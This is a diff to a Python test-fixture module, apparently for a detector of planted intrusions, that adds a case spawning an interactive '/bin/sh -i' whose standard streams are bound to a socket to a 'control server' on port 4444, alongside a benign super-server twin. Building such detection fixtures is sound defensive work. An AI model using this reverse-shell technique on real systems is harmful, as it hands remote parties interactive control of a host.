@@ -164,3 +164,29 @@ def listener_in_tmp(room: Room) -> Planted:
 def _(room: Room) -> Planted:
     """a service that listens."""
     return {"pid": room.listen("0.0.0.0", 8080, room.program("/opt/shop/web"))}
+
+
+def connected(room: Room, *argv: str) -> int:
+    """Start a program whose standard input, output and errors are a connection to the control server; its pid."""
+    remote = (CONTROL_SERVER[0], 4444)
+    with socket.create_server(remote) as server:
+        client = socket.create_connection(remote)
+        accepted, _ = server.accept()
+    room.afterwards(accepted.close)
+    with client:
+        return room.start(
+            *argv, before=lambda: [os.dup2(client.fileno(), number) for number in (0, 1, 2)], pass_fds=[client.fileno()]
+        )
+
+
+@case(3, shell_over_a_connection="pid")
+def reverse_shell(room: Room) -> Planted:
+    """an interactive shell whose input is a connection to elsewhere."""
+    return {"pid": connected(room, "/bin/sh", "-i")}
+
+
+@reverse_shell.twin
+def _(room: Room) -> Planted:
+    """a service's script that a super-server gave the connection to."""
+    script = room.write("/usr/local/bin/agent", "#!/bin/sh\nread question\n", 0o755)
+    return {"pid": connected(room, "/bin/sh", script)}
